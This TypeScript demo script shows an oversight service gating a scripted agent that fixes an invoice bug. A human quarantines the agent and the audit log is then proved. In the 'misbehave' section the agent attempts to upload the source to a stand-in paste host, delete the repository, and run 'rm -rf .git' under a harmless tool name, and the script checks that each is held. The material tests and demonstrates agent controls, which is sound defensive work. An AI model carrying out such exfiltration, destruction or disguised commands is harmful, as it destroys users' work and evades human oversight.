// A piece of real work, decided step by step, and proved afterwards. Ends with 0 only if everything held.
import { randomBytes } from 'node:crypto'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createClient } from '@countersign/client'
import { type Agent, type Attempt, createAgent } from './agent.ts'
import { createProject } from './project.ts'
import { type Demo, exportCommit, exportTo, prove, tamper } from './proof.ts'
import { chapter, check, failed, green, note, printLine, red, shorten, title } from './screen.ts'
import { type Service, startService } from './service.ts'

const folder = mkdtempSync(join(tmpdir(), 'countersign-demo-'))
const isKept = process.argv.includes('--keep')
process.once('exit', () => isKept || rmSync(folder, { recursive: true, force: true, maxRetries: 3 }))
for (const signal of ['SIGINT', 'SIGTERM'] as const) process.once(signal, () => process.exit(1))

title('An agent fixes a bug. It asks before every step, and what was decided and done can be proved.')
try {
  const service = await startService(folder)
  await runDemo(service).finally(service.stop)
  finish()
} catch (error) {
  console.error(
    red(`\nThe demo could not continue: ${error instanceof Error ? error.message : String(error)}`),
  )
  process.exitCode = 1
}

async function runDemo(service: Service): Promise<void> {
  const demo = await prepare(service)
  await work(demo)
  const early = await exportTo(demo, 'early')
  await misbehave(demo)
  const kept = await keepCheckpoint(demo)
  await quarantine(demo)
  const bundle = await exportTo(demo, 'bundle', kept.size)
  const commit = await exportCommit(demo)
  await service.stop()
  await prove(demo, bundle, kept.file, commit)
  await tamper(demo, bundle, early.file, kept.file)
}

async function prepare(service: Service): Promise<Demo> {
  chapter('A service, an agent, and a project with a failing test')
  printLine('service', `${service.url}${service.isOwn ? ', on an embedded database of its own' : ''}`)
  const admin = createClient({ baseUrl: service.url, apiKey: service.adminKey })
  const { id: orgId } = await admin.org.get()
  const keys = await admin.log.keys({ org_id: orgId })
  writeFileSync(join(folder, 'keys.json'), JSON.stringify(keys))
  printLine('auditor', `keeps the key of the log, ${keys.keys[0]?.kid}, before anything happens`)
  const { tree_size } = await admin.log.checkpoint({ org_id: orgId })
  const { id: agentId } = await admin.agents.create({ name: 'Fixer' })
  const scopes = ['check', 'gate', 'complete', 'receipts:read'] as const
  const key = await admin.keys.create({ name: 'Fixer', scopes: [...scopes], agent_id: agentId })
  if (key.secret === undefined) throw new Error('the key came without its secret')
  printLine('human', `registers the agent ${agentId}; its key can ask and report, and nothing else`)
  const asAgent = createClient({ baseUrl: service.url, apiKey: key.secret })
  const agent = createAgent(asAgent, `demo-${randomBytes(4).toString('hex')}`)
  const project = createProject(join(folder, 'invoice'))
  const before = project.test()
  printLine(
    'human',
    `runs the tests: ${red('fails')}, "${before.failing.join('", "')}"; asks the agent to fix it`,
  )
  check('the project starts with one failing test', before.failing.length === 1)
  const fromSeq = service.isOwn ? 0 : tree_size
  return { folder, service, admin, agent, agentId, orgId, fromSeq, project, attempts: [] }
}

async function work({ agent, project, attempts }: Demo): Promise<void> {
  chapter('The agent works, and acts only on allow')
  function read({ path }: { path?: unknown }) {
    return project.read(String(path))
  }
  async function step(...asked: Parameters<Agent['attempt']>) {
    const attempt = await agent.attempt(...asked)
    attempts.push(attempt)
    return attempt
  }
  const listed = await step('list_files', { path: '.' }, () => project.list())
  await step('read_file', { path: 'CONTRIBUTING.md' }, read)
  await step('read_file', { path: 'total.test.js' }, read)
  const source = await step('read_file', { path: 'total.js' }, read)
  const held = await step('run_tests', { command: 'node --test' }, () => shorten(project.test(), 200))
  note('Running code needs approval, so the agent continues without it: the human will run the tests.')
  const content = String(source.output).replace('cents + item.cents,', 'cents + item.cents * item.quantity,')
  const wrote = await step('write_file', { path: 'total.js', content }, (args) => {
    project.write(String(args.path), String(args.content))
    return { bytes: Buffer.byteLength(String(args.content)) }
  })
  await step('git_diff', {}, () => project.git('diff'))
  const after = project.test()
  printLine('human', `runs the tests: ${after.isPassed ? green('all pass') : red('fails')}`)
  note('The human ran them, not the agent, so the log has no receipt of it.')
  const message = 'count the quantity of each item'
  const committed = await step('git_commit', { message, paths: ['total.js'] }, (args) => {
    project.git('commit', '--quiet', '--message', String(args.message), '--', 'total.js')
    return project.git('rev-parse', 'HEAD')
  })
  check('reading, editing and committing were allowed', [listed, source, wrote, committed].every(isDone))
  check('running code was held for a human, and was not done', isHeld(held))
  check('the bug is fixed: all tests pass', after.isPassed)
  check('the commit is in the repository', project.git('log', '--format=%s', '-1') === message)
}

async function misbehave({ agent, project, attempts }: Demo): Promise<void> {
  chapter('The agent misbehaves')
  function unreached(): never {
    throw new Error('this must never run')
  }
  const tries: [string, Record<string, string>][] = [
    ['upload_archive', { path: '.', to: 'https://paste.example/new' }],
    ['delete_repository', { path: '.' }],
    ['tidy_workspace', { command: 'rm -rf .git' }],
  ]
  const refused: Attempt[] = []
  for (const [action, args] of tries) refused.push(await agent.attempt(action, args, unreached))
  attempts.push(...refused)
  note('The last one is the second under a harmless name: its arguments tell what it would do.')
  const [upload, deletion, tidying] = refused
  check('uploading the source was held, and was not done', isHeld(upload))
  check('deleting the repository was held, and was not done', isHeld(deletion))
  check('the harmless name was held, and was not done', isHeld(tidying))
  check('the repository is intact', project.exists() && project.git('status', '--porcelain') === '')
}

async function keepCheckpoint({ admin, orgId }: Demo): Promise<{ file: string; size: number }> {
  const checkpoint = await admin.log.checkpoint({ org_id: orgId })
  const file = join(folder, 'checkpoint.json')
  writeFileSync(file, JSON.stringify(checkpoint))
  printLine(
    'auditor',
    `keeps a checkpoint: ${checkpoint.tree_size} receipts, root ${checkpoint.root.slice(0, 16)}…`,
  )
  return { file, size: checkpoint.tree_size }
}

async function quarantine({ admin, agent, agentId, attempts, project }: Demo): Promise<void> {
  chapter('A human stops it')
  const { status } = await admin.agents.quarantine({
    agent_id: agentId,
    reason: 'tried to upload the source',
  })
  printLine('human', `quarantines the agent: it is ${status}`)
  const last = await agent.attempt('read_file', { path: 'total.js' }, () => project.read('total.js'))
  attempts.push(last)
  check('not even reading is allowed any more', last.verdict === 'deny' && !last.isDone)
}

function isDone(attempt: Attempt): boolean {
  return attempt.verdict === 'allow' && attempt.isDone
}

function isHeld(attempt: Attempt | undefined): boolean {
  return attempt?.verdict === 'require_approval' && !attempt.isDone
}

function finish(): void {
  const count = failed()
  title(count === 0 ? green('Everything held.') : red(`${count} of the claims above do not hold.`))
  if (isKept) note(`The files are in ${folder}`)
  process.exitCode = count === 0 ? 0 : 1
}
